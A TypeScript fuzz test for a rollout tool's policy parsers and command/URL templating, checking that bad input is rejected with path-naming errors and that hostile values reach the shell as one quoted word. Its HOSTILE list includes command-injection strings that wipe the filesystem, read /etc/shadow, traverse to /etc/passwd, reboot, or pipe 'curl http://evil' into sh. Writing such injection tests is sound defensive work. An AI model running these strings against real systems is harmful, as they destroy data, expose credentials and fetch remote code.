// Bad-input corpus (issue 7): property-based fuzzing of what users write. Never a crash, always an
// error naming a path; hostile strings never reach a shell as anything but one quoted word.
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { PolicyError } from '../../policies/common/errors';
import { inventorySchema } from '../../policies/inventory/hosts';
import { organisationSchema } from '../../policies/organisation/schema';
import { parsePolicyText } from '../../policies/common/parse';
import { rolloutPolicySchema } from '../../policies/rollout/policy';
import { renderCommand, renderUrl } from '../../policies/common/templates';

const HOSTILE = [
  '; rm -rf / #', '$(touch /tmp/pwned)', '`id`', "' OR 1=1 --", '"; cat /etc/shadow; "', '../../../../etc/passwd', '\u0000nul', '\n\nnewlines\n',
  '${IFS}', '|| reboot', '&& curl http://evil | sh', '\u202ertl-override', '*', '~root', 'a'.repeat(100_000), '{{host.name}}',
];
const hostile = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary', maxLength: 200 }), fc.string({ maxLength: 50 }));

const VALID_POLICY = {
  apiVersion: 'maint/v1', kind: 'RolloutPolicy', name: 'web', targets: { inventory: 'inventory.yaml', selector: 'role=web' },
  strategy: { kind: 'apt', packages: ['openssl'] }, waves: { canary: 1, batches: [1, '10%', '100%'] }, maxUnavailable: 1,
  health: { checks: [{ kind: 'http', url: 'http://{{host.address}}:8080/health' }], deadline: '2m' },
};
const VALID_ORG = {
  apiVersion: 'maint/v1', kind: 'Organisation', organisation: { name: 'Acme', contact: { email: 'ops@acme.example' } },
  channels: [{ name: 'mail', kind: 'email', smtp: { host: 'smtp.acme.example' }, from: 'Acme <m@acme.example>' }],
  services: [{ name: 'web', subscribers: [{ name: 'C', channel: 'mail', to: 'c@c.example' }] }],
  windows: [{ name: 'w', timezone: 'Europe/Amsterdam', recurrence: { kind: 'cron', expression: '0 22 * * 2' }, duration: '4h', cutoff: '1h', services: ['web'] }],
};

/** Replaces the value at a random path of `doc` (found by walking it) with `value`. */
function mutate(doc: unknown, choices: number[], value: unknown): unknown {
  if (doc === null || typeof doc !== 'object' || choices.length === 0) return value;
  const keys = Object.keys(doc);
  const key = keys[choices[0]! % keys.length]!;
  const copy: Record<string, unknown> = Array.isArray(doc) ? ([...doc] as unknown as Record<string, unknown>) : { ...(doc as Record<string, unknown>) };
  copy[key] = mutate((doc as Record<string, unknown>)[key], choices.slice(1), value);
  return copy;
}

/** Parsing either succeeds or throws a PolicyError whose every problem has a path (string) and a message. */
function parsesOrExplains(text: string, schema: Parameters<typeof parsePolicyText>[2]): 'ok' | 'rejected' {
  try {
    parsePolicyText(text, 'fuzz.yaml', schema);
    return 'ok';
  } catch (err) {
    if (!(err instanceof PolicyError)) throw err;
    expect(err.problems.length).toBeGreaterThan(0);
    for (const p of err.problems) {
      expect(typeof p.path).toBe('string');
      expect(p.message.length).toBeGreaterThan(0);
    }
    expect(err.message.startsWith('fuzz.yaml is invalid')).toBe(true);
    return 'rejected';
  }
}

describe('fuzzing what users write', () => {
  it.each([
    ['rollout policy', rolloutPolicySchema],
    ['organisation', organisationSchema],
    ['inventory', inventorySchema],
  ] as const)('any YAML or JSON document as a %s: parsed or explained with paths, never a crash', (_kind, schema) => {
    fc.assert(fc.property(fc.jsonValue({ maxDepth: 4 }), (value) => void parsesOrExplains(JSON.stringify(value), schema)), { numRuns: 300 });
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => void parsesOrExplains(text, schema)), { numRuns: 300 });
  });

  it('a valid rollout policy or organisation with one value replaced by a hostile one: parsed or explained, never a crash', () => {
    for (const [doc, schema] of [[VALID_POLICY, rolloutPolicySchema], [VALID_ORG, organisationSchema]] as const) {
      fc.assert(
        fc.property(fc.array(fc.nat(), { minLength: 1, maxLength: 5 }), hostile, (path, value) => void parsesOrExplains(JSON.stringify(mutate(doc, path, value)), schema)),
        { numRuns: 400 },
      );
    }
  });

  it('hostile package names never pass the policy (they would reach apt)', () => {
    fc.assert(
      fc.property(fc.constantFrom(...HOSTILE.filter((h) => h.length < 1000)), (name) => {
        expect(parsesOrExplains(JSON.stringify({ ...VALID_POLICY, strategy: { kind: 'apt', packages: [name] } }), rolloutPolicySchema)).toBe('rejected');
      }),
    );
  });

  it('a hostile tag, name or version reaches the shell as exactly one word, and a URL cannot change its structure', () => {
    fc.assert(
      // "." and ".." are refused as tag values (inventory schema): URL parsers remove such path segments however encoded.
      fc.property(hostile.filter((s) => !s.includes('\u0000') && s.length < 5000 && s !== '.' && s !== '..'), (value) => {
        const command = renderCommand('printf %s {{host.tags.evil}}', { host: { name: 'h', address: '127.0.0.1', port: 22, user: 'u', tags: { evil: value } }, target: value });
        // Run by a real POSIX shell: it prints the value back, byte for byte, and runs nothing else.
        expect(execFileSync('/bin/sh', ['-c', command], { encoding: 'utf8' })).toBe(value);
        const url = new URL(renderUrl('http://{{host.address}}:8080/hosts/{{host.tags.evil}}/health', { host: { name: 'h', address: '10.0.0.1', port: 22, user: 'u', tags: { evil: value } } }));
        expect([url.hostname, url.port, url.pathname.startsWith('/hosts/'), url.pathname.endsWith('/health'), url.search, url.hash]).toEqual(['10.0.0.1', '8080', true, true, '', '']);
      }),
      { numRuns: 150 },
    );
  });
});
